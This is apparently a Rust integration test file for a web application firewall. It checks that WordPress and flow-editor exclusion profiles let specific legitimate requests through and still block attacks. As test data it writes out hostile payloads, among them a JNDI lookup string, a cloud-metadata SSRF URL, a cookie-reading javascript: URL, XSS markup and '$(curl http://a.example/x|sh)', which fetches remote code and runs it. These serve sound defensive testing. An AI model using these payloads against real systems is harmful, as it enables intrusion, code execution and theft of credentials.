//! Profiles in the real program: each exclusion of them has a request of our own that it lets pass, and
//! attacks of another class and of another kind in the same field are stopped.

use std::process::Command;

use portcullis_config::profiles;
use portcullis_testkit::client::exchange;
use serde_json::{Value, json};

use crate::revisions::Managed;
use crate::served::*;

/// The place of a value.
#[derive(Clone, Copy, Debug)]
enum In {
    /// A form, in this field.
    Form(&'static str),
    /// A JSON body, in the place of `VALUE`.
    Json(&'static str),
}

/// A request that a profile lets pass.
struct Sample {
    path: &'static str,
    place: In,
    honest: &'static str,
    /// Of another class, and of a kind of the same class that is not excluded.
    attacks: [&'static str; 2],
}

/// With hosts of its own, so that links to others are stopped.
const SITE: &str = "mode = \"semantic\"\nsemantic = { hosts = [\"own.example\"] }";
const LOOKUP: &str = "${jndi:ldap://a.example/x}";
/// A page with all that the block editor was recorded to save.
const LANDING: &str = "<!-- wp:html --><script async=\"\" src=\"https://visits.example.net/tag.js\"></script>\
    <script>window.layer = window.layer || []; function tag(){layer.push(arguments);} tag('js', new Date());\
    </script><form action=\"https://list.example.net/join\" method=\"post\" onsubmit=\"return check(this)\">\
    <input type=\"email\" name=\"EMAIL\"></form><!-- /wp:html -->";
/// Markup of the same class, of a kind that was not recorded.
const STYLE: &str = "\"><link rel=stylesheet href=http://a.example/a.css>";
const SAMPLES: [Sample; 7] = [
    Sample {
        path: "/wp-json/wp/v2/posts/7",
        place: In::Json("{\"title\":\"Sale\",\"content\":VALUE}"),
        honest: LANDING,
        attacks: [LOOKUP, STYLE],
    },
    Sample {
        path: "/wp-json/wp/v2/pages/3",
        place: In::Json("{\"content\":VALUE}"),
        honest: LANDING,
        attacks: [LOOKUP, STYLE],
    },
    Sample {
        path: "/index.php?rest_route=%2Fwp%2Fv2%2Fpages%2F3",
        place: In::Json("{\"content\":VALUE}"),
        honest: LANDING,
        attacks: [LOOKUP, STYLE],
    },
    Sample {
        path: "/wp-comments-post.php",
        place: In::Form("url"),
        honest: "https://garden.example.net/~ann/",
        attacks: ["http://169.254.169.254/latest/meta-data/", "https://own.example@a.example/"],
    },
    Sample {
        path: "/wp-admin/profile.php",
        place: In::Form("url"),
        honest: "https://garden.example.net/",
        attacks: ["javascript:alert(document.cookie)", "https://own.example@a.example/"],
    },
    Sample {
        path: "/flows",
        place: In::Json("{\"flows\":[{\"type\":\"exec\",\"command\":VALUE}]}"),
        honest: "cat /etc/hostname; uname -a | tr a-z A-Z",
        attacks: ["<script>alert(1)</script>", "$(curl http://a.example/x|sh)"],
    },
    Sample {
        path: "/flows",
        place: In::Json("{\"flows\":[{\"type\":\"http request\",\"url\":VALUE}]}"),
        honest: "http://127.0.0.1:9090/api/v1/query?query=up",
        attacks: [LOOKUP, "http://169.254.169.254/latest/meta-data/"],
    },
];

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

impl Sample {
    /// The status of the request with this value, its path below `root`.
    fn ask(&self, managed: &Managed, root: &str, value: &str) -> u16 {
        let (kind, body) = match self.place {
            In::Form(field) => ("application/x-www-form-urlencoded", format!("{field}={}", percent(value))),
            In::Json(template) => ("application/json", template.replace("VALUE", &json!(value).to_string())),
        };
        let request = format!(
            "POST {root}{} HTTP/1.1\r\nHost: a\r\nConnection: close\r\nContent-Type: {kind}\r\n\
             Content-Length: {}\r\n\r\n{body}",
            self.path,
            body.len()
        );
        exchange(managed.address, None, request.as_bytes(), PATIENCE).unwrap().status
    }
}

/// The exclusions of all profiles.
fn count() -> usize {
    profiles().iter().map(|profile| profile.exclude.len()).sum()
}

#[test]
fn each_exclusion_lets_its_own_request_pass_and_no_more() {
    let application = application(|_| says("found"));
    let folder = tempfile::tempdir().unwrap();
    let without = Managed::start(folder.path(), application.address(), SITE, "");
    for sample in &SAMPLES {
        let Sample { path, place, honest, attacks: [other, same] } = sample;
        for value in [honest, other, same] {
            assert_eq!(sample.ask(&without, "", value), 403, "{path} {place:?}: {value}");
        }
    }
    without.stop();
    let folder = tempfile::tempdir().unwrap();
    let names: Vec<&str> = profiles().iter().map(|profile| profile.name.as_str()).collect();
    let site = format!("{SITE}\nprofiles = {names:?}");
    let managed = Managed::start(folder.path(), application.address(), &site, "");
    for sample in &SAMPLES {
        let Sample { path, place, honest, attacks } = sample;
        assert_eq!(sample.ask(&managed, "", honest), 200, "{path} {place:?}: {honest}");
        for attack in attacks {
            assert_eq!(sample.ask(&managed, "", attack), 403, "{path} {place:?}: {attack}");
        }
        // Nobody carries it to another application, or to a path that becomes another one.
        for root in ["/other.php", "/x/..", "/"] {
            assert_eq!(sample.ask(&managed, root, honest), 403, "{root}{path} {place:?}: {honest}");
        }
    }
    let listed = || {
        let (status, listed) = managed.ask("GET", "/exclusions", &Value::Null);
        assert_eq!(status, 200, "{listed}");
        listed["items"].as_array().unwrap().clone()
    };
    assert_eq!(listed().len(), count());
    // Every exclusion is needed.
    until(|| listed().iter().all(|each| each["use"]["hits"].as_u64() > Some(0)));
    for each in listed() {
        assert_eq!((&each["origin"], each["reason"].is_string()), (&json!("profile"), true), "{each}");
        assert!(each["opens"].is_string() && names.contains(&each["profile"].as_str().unwrap()), "{each}");
        let path = format!("/exclusions/{}", each["id"].as_str().unwrap());
        let (status, refused) = managed.ask("DELETE", &path, &Value::Null);
        let told = refused["detail"].to_string();
        assert!(status == 409 && told.contains("is of the profile"), "{status} {refused}");
    }
    managed.stop();
}

/// What everyone may send stays inspected: comments, routes of plugins, and pages by the address that only
/// plain permalinks need.
#[test]
fn wordpress_opens_no_other_route() {
    let application = application(|_| says("found"));
    let folder = tempfile::tempdir().unwrap();
    let site = format!("{SITE}\nprofiles = [\"wordpress\"]");
    let managed = Managed::start(folder.path(), application.address(), &site, "");
    for path in [
        "/wp-json/wp/v2/comments",
        "/wp-json/plugin/v1/submit",
        "/index.php?rest_route=/wp/v2/pages/3",
        "/index.php?rest_route=/plugin/v1/submit",
    ] {
        let place = In::Json("{\"content\":VALUE}");
        let sample = Sample { path, place, honest: LANDING, attacks: [LOOKUP; 2] };
        assert_eq!(sample.ask(&managed, "", LANDING), 403, "{path}");
    }
    managed.stop();
}

/// They count on routes with settings of their own, too; a reload that takes the name out ends them.
#[test]
fn a_profile_is_of_the_whole_site_and_ends_with_its_name() {
    let application = application(|_| says("found"));
    let folder = tempfile::tempdir().unwrap();
    let [sample, ..] = &SAMPLES;
    let site = "mode = \"semantic\"\nprofiles = [\"wordpress\"]\n\
                routes = [{ path = \"/wp-json/\", upstream = \"app\", semantic = { classes = { xss = \"block\" } } }]";
    let managed = Managed::start(folder.path(), application.address(), site, "");
    assert_eq!(sample.ask(&managed, "", sample.honest), 200);
    let text = managed.text().replace("profiles = [\"wordpress\"]", "profiles = []");
    let (status, answer) = managed.ask("PUT", "/config", &json!({ "text": text }));
    assert_eq!(status, 200, "{answer}");
    assert_eq!(sample.ask(&managed, "", sample.honest), 403);
    let (_, listed) = managed.ask("GET", "/exclusions", &Value::Null);
    assert_eq!(listed["items"], json!([]));
    managed.stop();
}

#[test]
fn the_command_tells_what_each_opens() {
    let ask = |arguments: &[&str]| {
        let output = Command::new(program()).arg("profiles").args(arguments).output().unwrap();
        let text = [output.stdout, output.stderr].concat();
        (output.status.success(), String::from_utf8(text).unwrap())
    };
    let (ok, all) = ask(&[]);
    assert!(ok && all.matches("    opens: ").count() == count(), "{all}");
    let (ok, one) = ask(&["wordpress"]);
    assert!(ok && one.starts_with("wordpress: ") && all.contains(&one), "{one}");
    let (ok, error) = ask(&["wordpres"]);
    assert!(!ok && error.contains("did you mean `wordpress`?"), "{error}");
}
